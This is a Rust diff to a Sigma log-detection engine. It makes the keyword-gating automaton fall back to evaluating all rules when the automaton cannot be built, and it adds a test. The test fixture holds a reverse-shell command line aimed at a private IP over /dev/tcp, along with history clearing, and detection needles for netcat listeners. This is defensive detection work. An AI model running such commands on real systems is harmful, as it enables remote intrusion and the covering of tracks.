@@ -148,14 +148,18 @@ fn keyword_needle(value: &SigmaValue) -> Option<String> {
 
 /// One automaton over the needles of every gated rule.
 pub(crate) struct Gate {
-    automaton: AhoCorasick,
+    /// `None` if the automaton could not be built (too many states): then every gated rule is
+    /// evaluated, as if the gate were not there.
+    automaton: Option<AhoCorasick>,
     /// Needle index -> the gated group it opens.
     owner: Vec<usize>,
+    /// Number of gated groups.
+    groups: usize,
 }
 
 impl Gate {
-    /// A gate over `(group index, needles)` pairs; `None` when there is nothing to gate.
-    pub(crate) fn build(gated: &[(usize, Vec<String>)]) -> Option<Self> {
+    /// A gate over `(group index, needles)` pairs, the group indexes `0..gated.len()`.
+    pub(crate) fn build(gated: &[(usize, Vec<String>)]) -> Self {
         let mut owner = Vec::new();
         let mut patterns: Vec<&str> = Vec::new();
         for (group, needles) in gated {
@@ -164,26 +168,28 @@ impl Gate {
                 patterns.push(n);
             }
         }
-        if patterns.is_empty() {
-            return None;
+        let build = |kind| {
+            AhoCorasick::builder()
+                .match_kind(MatchKind::Standard)
+                .ascii_case_insensitive(true)
+                .kind(kind)
+                .build(&patterns)
+        };
+        let automaton = build(Some(AhoCorasickKind::DFA))
+            .or_else(|_| build(None))
+            .ok();
+        Self {
+            automaton,
+            owner,
+            groups: gated.len(),
         }
-        let automaton = AhoCorasick::builder()
-            .match_kind(MatchKind::Standard)
-            .ascii_case_insensitive(true)
-            .kind(Some(AhoCorasickKind::DFA))
-            .build(&patterns)
-            .or_else(|_| {
-                AhoCorasick::builder()
-                    .match_kind(MatchKind::Standard)
-                    .ascii_case_insensitive(true)
-                    .build(&patterns)
-            })
-            .ok()?;
-        Some(Self { automaton, owner })
     }
 
     /// The gated groups `view`'s keyword fields open, sorted, without repeats.
     pub(crate) fn open(&self, view: &SigmaView<'_>) -> Vec<usize> {
+        let Some(automaton) = &self.automaton else {
+            return (0..self.groups).collect();
+        };
         let mut open = Vec::new();
         view.visit_string_values(&mut |s| {
             let folded;
@@ -193,7 +199,7 @@ impl Gate {
                 folded = s.to_lowercase();
                 folded.as_str()
             };
-            for m in self.automaton.find_overlapping_iter(haystack) {
+            for m in automaton.find_overlapping_iter(haystack) {
                 open.push(self.owner[m.pattern().as_usize()]);
             }
         });
@@ -276,6 +282,27 @@ mod tests {
         assert_eq!(needles(&every), Some(vec!["bash -c /bin/bash".to_owned()]));
         let regex = rule("  keywords:\n    '|re': ['a.*b']\n  condition: keywords\n");
         assert_eq!(needles(&regex), None);
+    }
+
+    #[test]
+    fn the_gate_opens_the_groups_whose_needles_occur() {
+        let gate = Gate::build(&[
+            (0, vec!["history -c".to_owned()]),
+            (1, vec!["/dev/tcp/".to_owned(), "nc -l".to_owned()]),
+        ]);
+        let event = serde_json::json!({"message": "bash -i >& /DEV/TCP/10.0.0.1/4444; history -c"});
+        let map = event.as_object().expect("object");
+        assert_eq!(gate.open(&SigmaView::from_map(map)), vec![0, 1]);
+        let quiet = serde_json::json!({"message": "session opened for user root"});
+        let map = quiet.as_object().expect("object");
+        assert!(gate.open(&SigmaView::from_map(map)).is_empty());
+        // Without its automaton, the gate lets every gated rule through.
+        let broken = Gate {
+            automaton: None,
+            owner: Vec::new(),
+            groups: 2,
+        };
+        assert_eq!(broken.open(&SigmaView::from_map(map)), vec![0, 1]);
     }
 
     #[test]
